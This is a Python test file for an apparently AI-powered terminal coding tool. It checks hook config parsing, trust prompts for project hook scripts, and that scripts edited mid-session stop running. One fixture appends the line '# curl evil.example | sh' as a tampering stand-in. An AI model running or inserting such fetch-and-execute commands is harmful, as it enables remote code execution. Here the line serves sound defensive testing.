"""Hooks in config files: the TOML shape, one-line problems, trust of a project's hooks and their
scripts, and the app (the "ask" question, ``/extensions``)."""

from __future__ import annotations

import asyncio
import json
from dataclasses import replace
from pathlib import Path

import pytest

from tests.fakes.host import Collector
from tests.fakes.scripted_model import ScriptedModel, last_tool_result, text_step, tool_step
from tests.ui_helpers import dialog_armed, notices, screen_text, submit, wait_for, wait_ready
from zett_tui.config import pinned_files, trust
from zett_tui.config.settings import load_settings
from zett_tui.core import paths
from zett_tui.entry.startup import prepare_launch
from zett_tui.ui.app import ZettApp

GOOD = """\
[[hooks.PreToolUse]]
matcher = "Bash|Edit"
command = "./check.sh"
timeout = 30

[[hooks.Stop]]
command = "notify-send done"
"""


def user_config(text: str) -> Path:
    path = paths.config_file()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_hook_tables_load_in_file_order_with_where_they_came_from(project_dir: Path) -> None:
    path = user_config(GOOD)

    settings, problems = load_settings(cwd=project_dir, env={})

    assert problems == []
    first, second = settings.hooks
    assert (first.event, first.matcher, first.command, first.timeout) == (
        "PreToolUse",
        "Bash|Edit",
        "./check.sh",
        30,
    )
    assert (first.source, first.config_file, first.line) == ("user", path, 1)
    assert (second.event, second.timeout, second.line) == ("Stop", 60, 6)


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        (
            '[[hooks.PreTooluse]]\ncommand = "x"\n',
            1,
            "hooks.PreTooluse: not a hook event; did you mean 'PreToolUse'?",
        ),
        (
            '[[hooks.Stop]]\ncommand = "x"\n[[hooks.Stop]]\ncomand = "y"\n',
            3,
            "hooks.Stop[1].comand: unknown key; did you mean 'command'?",
        ),
        (
            '[[hooks.PreToolUse]]\nmatcher = "(("\ncommand = "x"\n',
            1,
            "hooks.PreToolUse[0].matcher: not a valid regular expression",
        ),
        (
            '[[hooks.PreToolUse]]\ncommand = "x"\ntimeout = 0\n',
            1,
            "hooks.PreToolUse[0].timeout: expected seconds between 0 and 3600",
        ),
        (
            '[[hooks.Stop]]\nmatcher = "Bash"\ncommand = "x"\n',
            1,
            "hooks.Stop[0].matcher: Stop hooks take no matcher",
        ),
        ("[[hooks.Stop]]\ntimeout = 5\n", 1, 'hooks.Stop[0]: needs command = "..."'),
        ("[hooks]\nStop = 3\n", 2, "hooks.Stop: expected [[hooks.Stop]] tables, got an integer"),
        (
            '[[hooks.PreToolUse]]\nmatcher = "Bash"\nhooks = [{ type = "command", command = "x" }]\n',
            1,
            "hooks.PreToolUse[0]: zett takes one command per table",
        ),
    ],
)
def test_a_bad_hook_is_one_line_naming_the_file_and_line_and_the_rest_load(
    project_dir: Path, text: str, line: int, message: str
) -> None:
    path = user_config(text + '\n[[hooks.SessionStart]]\ncommand = "echo fine"\n')

    settings, problems = load_settings(cwd=project_dir, env={})

    [problem] = problems
    assert str(problem).startswith(f"{path}:{line}: {message}")
    assert "\n" not in str(problem)
    commands = [hook.command for hook in settings.hooks]
    assert commands == (["x", "echo fine"] if "comand" in text else ["echo fine"])  # the bad one alone is out


# -- a project's hooks and trust ----------------------------------------------------------------


def hook_project(root: Path, marker: Path) -> Path:
    """A project whose PreToolUse hook (``.zett/hooks/pre.sh``) appends to ``marker``; a ``check.sh``
    at its top, named by a second hook's command."""
    (root / ".zett" / "hooks").mkdir(parents=True)
    script = root / ".zett" / "hooks" / "pre.sh"
    script.write_text(f"#!/bin/sh\ncat > /dev/null\necho ran >> {marker}\n")
    script.chmod(0o755)
    (root / "check.sh").write_text("#!/bin/sh\nexit 0\n")
    (root / "check.sh").chmod(0o755)
    (root / ".zett" / "config.toml").write_text(
        '[[hooks.PreToolUse]]\ncommand = ".zett/hooks/pre.sh"\n\n[[hooks.PostToolUse]]\ncommand = "sh ./check.sh --quiet"\n'
    )
    (root / "notes.txt").write_text("the notes\n")
    return script


def test_the_trust_covers_every_project_file_a_hook_command_names(project_dir: Path) -> None:
    (project_dir / ".zett").mkdir()
    (project_dir / ".zett" / "config.toml").write_text(
        '[[hooks.Stop]]\ncommand = "sh lint --config=lint.toml /etc/hostname \\"$CLAUDE_PROJECT_DIR\\"/tools/x"\n'
    )
    for name in ("lint", "lint.toml", "tools/x"):
        (project_dir / name).parent.mkdir(exist_ok=True)
        (project_dir / name).write_text("echo\n")

    project = trust.project_files(project_dir)

    assert project is not None
    assert set(project.files) == {".zett/config.toml", "lint", "lint.toml", "tools/x"}
    assert project.left_out == ()


def test_an_untrusted_projects_hooks_do_not_load_and_the_question_names_them(project_dir: Path) -> None:
    hook_project(project_dir, project_dir / "ran")

    launch = prepare_launch(cwd=project_dir, env={}, ask_trust=True)

    assert launch.hooks == ()
    assert launch.project_trust is not None
    code = launch.project_trust.code_to_run()
    assert "hook PreToolUse: runs .zett/hooks/pre.sh (outside the sandbox)" in code
    assert "hook PostToolUse: runs sh ./check.sh --quiet (outside the sandbox)" in code
    assert {".zett/hooks/pre.sh", "check.sh"} <= set(launch.project_trust.files)


@pytest.mark.parametrize("changed", [".zett/hooks/pre.sh", "check.sh", ".zett/config.toml"])
def test_a_trusted_projects_hook_script_changed_asks_again(project_dir: Path, changed: str) -> None:
    hook_project(project_dir, project_dir / "ran")
    project = trust.project_files(project_dir)
    assert project is not None
    trust.remember(project, trusted=True)
    assert [hook.source for hook in prepare_launch(cwd=project_dir, env={}).hooks] == ["project", "project"]

    with (project_dir / changed).open("a") as file:
        file.write("\n# curl evil.example | sh\n")

    again = prepare_launch(cwd=project_dir, env={}, ask_trust=True)
    assert again.hooks == ()
    assert again.project_trust is not None
    assert trust.trust_state(again.project_trust) is trust.TrustState.CHANGED


async def test_a_hook_script_changed_during_the_session_no_longer_runs(project_dir: Path, hosts) -> None:
    """The model edits the project's hook script: it must not run that code outside the sandbox."""
    marker = project_dir / "ran"
    script = hook_project(project_dir, marker)
    project = trust.project_files(project_dir)
    assert project is not None
    trust.remember(project, trusted=True)
    launch = prepare_launch(cwd=project_dir, env={})
    read = tool_step("c1", "read_file", {"path": "notes.txt"})
    model = ScriptedModel(
        read, text_step("ok"), tool_step("c2", "read_file", {"path": "notes.txt"}), text_step("ok")
    )
    host = await hosts(model, cwd=project_dir, hooks=launch.hooks)

    await host.run_turn("read", Collector())
    assert marker.read_text() == "ran\n"
    script.write_text(f"#!/bin/sh\necho evil >> {marker}\n")
    sink = Collector()
    await host.run_turn("read again", sink)

    assert marker.read_text() == "ran\n"
    assert "the notes" in last_tool_result(model.requests[3])
    assert any(
        "Project hooks of" in notice.text and "are off" in notice.text
        for notice in sink.events
        if hasattr(notice, "text")
    )


# -- in the app ---------------------------------------------------------------------------------


async def test_the_app_asks_when_a_hook_says_ask_and_lists_the_hooks(project_dir: Path) -> None:
    answer = {
        "hookSpecificOutput": {"permissionDecision": "ask", "permissionDecisionReason": "notes are touchy"}
    }
    (project_dir / "ask.sh").write_text(f"#!/bin/sh\ncat > /dev/null\necho '{json.dumps(answer)}'\n")
    (project_dir / "ask.sh").chmod(0o755)
    pinned_files.allow([project_dir / "ask.sh"])  # the user's hook runs it from the project
    (project_dir / "notes.txt").write_text("the notes\n")
    config = user_config('[[hooks.PreToolUse]]\nmatcher = "Read"\ncommand = "./ask.sh"\ntimeout = 9\n')
    model = ScriptedModel(tool_step("c1", "read_file", {"path": "notes.txt"}), text_step("read it"))
    launch = prepare_launch(cwd=project_dir, env={})
    app = ZettApp(replace(launch, model_factory=lambda: model, model_label="scripted:test", bell=False))
    async with app.run_test(size=(120, 40)) as pilot:
        await wait_ready(pilot)
        await submit(pilot, "read the notes")
        await dialog_armed(pilot)
        shown = screen_text(app)
        assert "Run read_file?" in shown and "notes are touchy" in shown
        await pilot.press("1")
        await wait_for(pilot, lambda: not app.chat.turns.busy)
        assert "the notes" in last_tool_result(model.requests[1])
        await submit(pilot, "/extensions")
        await wait_for(pilot, lambda: "Hooks (shell commands" in notices(app)[-1])
        listing = notices(app)[-1]
    assert "PreToolUse" in listing and "./ask.sh" in listing and f"user, {config}:1, timeout 9 s" in listing


async def test_a_failing_session_start_hook_and_a_blocked_prompt_leave_the_app_working(
    project_dir: Path,
) -> None:
    (project_dir / "gate.sh").write_text(
        "#!/bin/sh\ncase \"$(cat)\" in *secret*) echo 'keep secrets out' >&2; exit 2;; esac\n"
    )
    (project_dir / "gate.sh").chmod(0o755)
    pinned_files.allow([project_dir / "gate.sh"])
    user_config(
        '[[hooks.SessionStart]]\ncommand = "echo broken >&2; exit 3"\n\n'
        '[[hooks.UserPromptSubmit]]\ncommand = "./gate.sh"\n'
    )
    model = ScriptedModel(text_step("hello back"))
    launch = prepare_launch(cwd=project_dir, env={})
    app = ZettApp(replace(launch, model_factory=lambda: model, model_label="scripted:test", bell=False))
    async with app.run_test(size=(120, 40)) as pilot:
        await wait_ready(pilot)
        await wait_for(
            pilot,
            lambda: any(
                "SessionStart hook" in text and "exited with code 3: broken" in text for text in notices(app)
            ),
        )
        await submit(pilot, "my secret is 1234")
        await wait_for(pilot, lambda: any("keep secrets out" in text for text in notices(app)))
        await wait_for(pilot, lambda: not app.chat.turns.busy)
        assert model.requests == []
        await submit(pilot, "hello")
        await wait_for(pilot, lambda: "hello back" in screen_text(app))
    assert len(model.requests) == 1


async def test_a_projects_hook_waits_for_a_running_tool_call_and_the_call_for_it(project_dir: Path) -> None:
    """The hash check and the hook's run cannot have a tool's write land between them."""
    from zett_tui.config.hooks import HookConfig
    from zett_tui.runtime.hooks.runner import SessionHooks

    marker = project_dir / "ran"
    config = project_dir / ".zett" / "config.toml"
    hooks = SessionHooks(
        (HookConfig("Stop", f"echo ran >> {marker}", source="project", config_file=config),),
        cwd=project_dir,
        report=lambda text, level: None,
        session_id=lambda: "s",
        is_trusted=lambda root: True,
    )
    tool_running = hooks.tool_running()
    await tool_running.__aenter__()
    hook = asyncio.create_task(hooks.run("Stop", {}))
    for _ in range(20):
        await asyncio.sleep(0)
    assert not hook.done() and not marker.exists()  # waits for the tool call

    second_tool = asyncio.create_task(hooks.tool_running().__aenter__())
    for _ in range(20):
        await asyncio.sleep(0)
    assert not second_tool.done()  # a waiting hook is not starved by new calls

    await tool_running.__aexit__(None, None, None)
    await hook
    assert marker.read_text() == "ran\n"
    await second_tool
